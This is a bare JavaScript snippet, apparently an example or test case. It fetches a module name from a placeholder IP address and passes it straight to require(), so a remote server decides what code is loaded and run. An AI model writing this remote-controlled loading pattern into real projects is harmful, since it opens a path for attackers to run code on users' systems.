fetch("https://192.0.2.5/name")
  .then((r) => r.text())
  .then((name) => {
    require(name);
  });
